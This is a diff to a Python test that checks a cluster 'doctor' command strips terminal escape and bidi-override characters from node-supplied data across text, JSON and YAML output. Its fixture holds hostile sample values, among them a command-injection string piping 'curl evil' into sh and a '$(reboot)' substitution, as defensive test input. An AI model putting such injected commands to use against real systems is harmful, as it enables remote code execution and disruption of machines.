@@ -326,16 +326,16 @@ class BadNodes(Case):
             "subject": "\x9b31m",
             "cure": ["holdfast heal x; curl evil | sh", "holdfast heal $(reboot)", "holdfast heal '\x1b]0;x\x07'"],
         }
-        evil["guard"] = "\r\x1b[31mfine\u202e"
+        evil["guard"] = "\r\x1b[31mfine\u202e\x7f\x9b"
         self.answer_with(cluster, 0, evil)
         done = cluster.run("doctor")
         self.assertEqual(done.returncode, 1)
-        for character in "\x1b\x9b\x07\r\u202e":
-            self.assertNotIn(character, done.stdout)
+        for output in (done, cluster.run("doctor", "-o", "json"), cluster.run("doctor", "-o", "yaml")):
+            for character in "\x1b\x9b\x07\x7f\r\u202e":
+                self.assertNotIn(character, output.stdout)
         self.assertIn("  cure: on gpu-000: holdfast heal x; curl evil | sh\n", done.stdout)
         self.assertNotIn("-- holdfast heal x", done.stdout)
         self.assertNotIn("reboot)'", done.stdout)
-        self.assertNotIn("\x1b", cluster.run("doctor", "-o", "yaml").stdout)
 
     def test_a_node_cannot_colour_or_widen_the_table(self):
         cluster = self.cluster(2)
